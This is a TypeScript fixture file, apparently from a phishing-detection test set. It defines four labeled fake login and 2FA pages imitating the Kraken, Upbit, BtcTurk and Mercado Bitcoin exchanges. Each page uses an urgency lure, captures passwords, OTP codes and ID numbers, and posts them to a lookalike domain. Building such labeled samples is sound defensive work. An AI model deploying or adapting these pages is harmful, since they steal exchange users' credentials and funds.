import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import * as B from '../parts/e-bin.js';
import * as Z from '../parts/zj-kit.js';

const otp = (n = 6) => `<div style="display:flex;gap:8px">${Array.from({ length: n }, (_, i) => `<input maxlength="1" class="d" style="width:44px;text-align:center" id="d${i}">`).join('')}</div>`;

export const entries: Entry[] = [
  {
    id: 'zj-phish-kraken-login-lookalike',
    label: 'phishing',
    kind: 'exchange-login',
    url: 'https://kraken.com-signin.pro/sign-in',
    body: Z.doc({
      title: 'Sign in - Kraken',
      style: Z.LIGHT + 'body{background:#f7f5ff}main{max-width:420px;background:#fff;border-radius:16px;margin-top:50px}.btn{background:#7132f5;width:100%}',
      body: `<main><h1 style="color:#7132f5">kraken</h1><h3>Sign in</h3><form id="f" method="post" action="/auth"><label>Username</label><input name="username"><label>Password</label><input name="password" type="password"><label>2FA (if enabled)</label><input name="otp" inputmode="numeric"><p><button class="btn">Sign in</button></p></form>
  <p style="font-size:13px"><a href="#">Forgot username?</a> · <a href="#">Forgot password?</a></p><p style="font-size:12px;color:#777">Payward, Inc. · Privacy · Terms</p></main>`,
    }),
    routes: { 'kraken.com-signin.pro/auth': redirectRoute(302, 'https://www.kraken.com/sign-in') },
  },
  {
    id: 'zj-phish-ko-upbit-login',
    label: 'phishing',
    kind: 'exchange-login',
    url: 'https://upbit-kr.co/signin',
    body: Z.doc({
      lang: 'ko',
      title: '업비트 | 로그인',
      style: Z.LIGHT + 'main{max-width:400px;text-align:center}.btn{background:#093687;width:100%}',
      body: `<main><h1 style="color:#093687">UPbit</h1><p>가장 신뢰받는 디지털 자산 거래소</p><div class="warn">고객님의 계정에서 해외 IP 로그인 시도가 감지되었습니다. 본인 확인을 위해 로그인해 주세요.</div>
  <form id="f"><input id="id" placeholder="카카오계정 (이메일 또는 전화번호)"><input id="pw" type="password" placeholder="비밀번호" style="margin-top:8px"><input id="otp" placeholder="OTP 인증번호 6자리" style="margin-top:8px"><p><button class="btn">로그인</button></p></form>
  <p style="font-size:12px">두나무 주식회사 · 고객센터 1588-5682</p></main>
  <script>document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('/signin/proc',{method:'POST',body:JSON.stringify({i:document.getElementById('id').value,p:document.getElementById('pw').value,o:document.getElementById('otp').value})}).then(function(){location.href='https://upbit.com/'})};</script>`,
    }),
    routes: { 'upbit-kr.co/signin/proc': Z.json({}) },
  },
  {
    id: 'zj-phish-tr-btcturk-giris',
    label: 'phishing',
    kind: 'exchange-login',
    url: 'https://btcturk-kripto.com.tr-giris.net/giris',
    body: Z.doc({
      lang: 'tr',
      title: 'BtcTurk | Kripto — Giriş Yap',
      style: Z.LIGHT + 'main{max-width:420px}.btn{background:#1a73e8;width:100%}',
      body: `<main><h2>BtcTurk | Kripto</h2><h3>Giriş Yap</h3><p>Hesabınızın güvenliği için kimlik doğrulamanız gerekmektedir. Doğrulanmayan hesaplarda çekim işlemleri askıya alınacaktır.</p>
  <form id="f"><label>E-posta veya T.C. Kimlik No</label><input id="e"><label>Şifre</label><input id="s" type="password"><label>Google Authenticator kodu</label><input id="g"><label>Cep telefonu</label><input id="t" placeholder="05xx xxx xx xx"><p><button class="btn">Giriş Yap</button></p></form>
  <p style="font-size:12px;color:#777">© 2026 BtcTurk Bilişim Hizmetleri A.Ş. · KVKK Aydınlatma Metni</p></main>
  <script>document.getElementById('f').onsubmit=function(e){e.preventDefault();var d={};['e','s','g','t'].forEach(function(k){d[k]=document.getElementById(k).value});fetch('/api/giris',{method:'POST',body:JSON.stringify(d)}).then(function(){document.querySelector('main').innerHTML='<h3>SMS doğrulama kodu gönderildi</h3><input placeholder="SMS kodu"><button class=btn>Onayla</button>'})};</script>`,
    }),
    routes: { 'btcturk-kripto.com.tr-giris.net/api/giris': Z.json({}) },
  },
  {
    id: 'zj-phish-pt-mercadobitcoin-token',
    label: 'phishing',
    kind: 'exchange-2fa',
    url: 'https://mercadobitcoin-seguranca.com/token',
    body: Z.doc({
      lang: 'pt-BR',
      title: 'Mercado Bitcoin | Validação de segurança',
      style: Z.LIGHT + 'main{max-width:440px}.btn{background:#f48d1f;width:100%}',
      body: `<main><h2>Mercado Bitcoin</h2><p>Detectamos um saque pendente de <b>R$ 18.430,00</b> em BTC para um endereço não reconhecido. Se não foi você, cancele agora confirmando seus dados.</p>
  <form id="f"><label>CPF</label><input id="cpf"><label>Senha</label><input id="sen" type="password"><label>Código do Google Authenticator</label>${otp()}<p><button class="btn">Cancelar saque</button></p></form>
  <p style="font-size:12px">Mercado Bitcoin Serviços Digitais Ltda.</p></main>
  <script>document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('/token/cancelar',{method:'POST',body:JSON.stringify({cpf:document.getElementById('cpf').value,s:document.getElementById('sen').value,c:[].map.call(document.querySelectorAll('.d'),function(x){return x.value}).join('')})}).then(function(){alert('Saque cancelado com sucesso.')})};</script>`,
    }),
    routes: { 'mercadobitcoin-seguranca.com/token/cancelar': Z.json({}) },
  },
];
